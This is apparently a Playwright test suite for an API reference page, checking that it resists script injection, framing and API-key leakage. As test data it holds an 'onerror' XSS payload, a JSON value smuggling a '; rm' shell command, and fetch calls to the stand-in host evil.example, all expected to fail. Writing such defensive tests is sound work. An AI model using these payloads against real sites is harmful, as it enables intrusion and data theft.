import type { Page } from "playwright-core";
import { expect, it } from "vitest";
import { serve, TestStore } from "../support/server.ts";
import { operation, sent, shownSample, useKey } from "./reference-page.ts";
import { createStage, describeInBrowser } from "./stage.ts";
import { visit } from "./visit.ts";

const stage = createStage({ start: () => serve(new TestStore(), { flags: ["--demo"] }) });

const script = '<img src="x" onerror="globalThis.harmed = true">';
const isHarmed = (page: Page) =>
  page.evaluate("globalThis.harmed === true || document.querySelector('main img') !== null");

// A page of this size is slow when tests share a core.
describeInBrowser("the reference under attack", { timeout: 60_000 }, () => {
  it("shows addresses and answers as text", async () => {
    const { page, complaints } = await visit(
      stage.reader,
      `${stage.docs}?url=//evil.example/x.json#/%E0%A4%A/${script}`,
    );
    expect([await isHarmed(page), complaints]).toEqual([false, []]);
    await useKey(page, (await stage.server.store.mintKey()).key);
    for (const contentType of ["application/json", "text/html", "image/svg+xml"]) {
      const body = contentType.endsWith("json") ? JSON.stringify({ code: script, message: script }) : script;
      const headers = { "x-request-id": script, "retry-after": script };
      await page.route("**/v1/inventory", (route) => route.fulfill({ status: 418, contentType, headers, body }), {
        times: 1,
      });
      expect(await sent(page, "listInventory")).toBe(418);
      expect([contentType, await isHarmed(page)]).toEqual([contentType, false]);
    }
  });

  it("shows input as text", async () => {
    const { page, complaints } = await visit(stage.reader, stage.docs);
    await operation(page, "updateInventory").getByLabel("petId").fill(script);
    await operation(page, "updateInventory").locator("textarea").fill(`{"quantity": "${script}'; rm"}`);
    expect([await isHarmed(page), complaints]).toEqual([false, []]);
    expect(await shownSample(page, "updateInventory")).toContain("'\\''; rm");
  });

  it("runs no injected script, and loads in no frame", async () => {
    const { page } = await visit(stage.reader, stage.docs);
    await page.evaluate(`document.body.insertAdjacentHTML("beforeend", '${script}<iframe src="/docs">')`);
    await page.evaluate(
      `document.body.append(Object.assign(document.createElement("script"), { text: "harmed = true" }))`,
    );
    const calls = page.evaluate(
      `fetch("https://evil.example/", { mode: "no-cors" }).then(() => "sent", () => "refused")`,
    );
    expect([await page.evaluate("globalThis.harmed"), await calls]).toEqual([undefined, "refused"]);
    await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
  });

  it("keeps the key out of URLs, of shared storage, and of the page", async () => {
    const { key } = await stage.server.store.mintKey();
    const { page } = await visit(stage.reader, stage.docs);
    const requests: string[] = [];
    page.on("request", (request) => requests.push(`${request.url()} ${request.headers().referer ?? ""}`));
    await useKey(page, key);
    expect(await sent(page, "listInventory")).toBe(200);
    expect(requests.filter((text) => text.includes(key) || text.includes("/docs "))).toEqual([]);
    expect(
      await page.evaluate("JSON.stringify(localStorage) + document.cookie + location + document.body.outerHTML"),
    ).not.toContain(key);
  });

  it("works in a browser that keeps nothing", async () => {
    const strict = await stage.createReader();
    await strict.addInitScript(`for (const name of ["localStorage", "sessionStorage"]) {
      Object.defineProperty(globalThis, name, { get() { throw new DOMException("denied", "SecurityError"); } });
    }`);
    const { page, complaints } = await visit(strict, stage.docs);
    await page.getByRole("button", { name: "Switch to dark colours" }).click();
    await useKey(page, (await stage.server.store.mintKey()).key);
    await operation(page, "listInventory").getByRole("tab", { name: "Go" }).click();
    expect(await shownSample(page, "listInventory")).toContain("package main");
    expect(await sent(page, "listInventory")).toBe(200);
    expect(complaints).toEqual([]);
    await strict.close();
  });
});
